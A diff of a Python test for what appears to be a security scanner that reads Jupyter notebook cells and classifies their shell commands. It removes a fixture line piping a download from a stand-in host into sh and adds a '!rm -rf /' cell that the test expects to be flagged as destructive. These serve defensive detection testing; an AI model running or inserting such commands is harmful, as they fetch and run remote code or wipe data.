@@ -258,12 +258,14 @@ def test_a_command_of_a_cell_goes_on_over_lines() -> None:
 
 
 def test_lines_of_a_notebook_for_a_shell_are_bounded_and_those_before_stay(read_bytes) -> None:
-    cell = {"cell_type": "code", "source": ["!curl http://a/b | sh\n"] * 20_001, "outputs": [], "metadata": {}}
-    data = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+    cells = [{"cell_type": "code", "source": ["!echo a\n"] * 20_001}, {"cell_type": "code", "source": ["!rm -rf /\n"]}]
+    data = json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5}).encode()
     reading = read_bytes(data, "a.ipynb")
     (outline,) = (each for each in reading.of(Outline) if each.format == "notebook")
     assert sum(each.use == "shell-line" for each in outline.mentions) == 20_000
     assert reading.reasons() == {UnreadReason.LIMIT}
+    # The commands of each cell are followed as a script all the same.
+    assert "destroy" in {each.use for outline in reading.of(Outline) for each in outline.mentions}
 
 
 def test_finds_of_a_notebook_are_put_into_their_cells(read_bytes) -> None:
